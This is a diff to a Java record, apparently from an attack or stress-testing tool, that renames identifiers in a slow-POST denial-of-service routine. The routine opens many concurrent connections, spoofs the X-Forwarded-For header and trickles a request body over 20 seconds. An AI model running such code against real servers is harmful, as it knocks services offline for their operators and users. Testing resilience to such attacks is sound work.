@@ -14,16 +14,16 @@ import java.util.function.Supplier;
  */
 public record SlowBody(
         String name, URI address, String begin, long length, int connections, Supplier<Map<String, String>> headers)
-        implements Hostile {
+        implements AttackKind {
 
     private static final int SECONDS = 20;
 
     @Override
-    public int strike(String source) {
+    public int attack(String source) {
         var all = new LinkedHashMap<>(headers.get());
         all.put("X-Forwarded-For", source);
         var request = new RawRequest("POST", address, all, length);
-        return Together.last(
+        return ConcurrentRequests.last(
                 connections, number -> request.sendSlowly(begin.getBytes(StandardCharsets.US_ASCII), SECONDS));
     }
 }
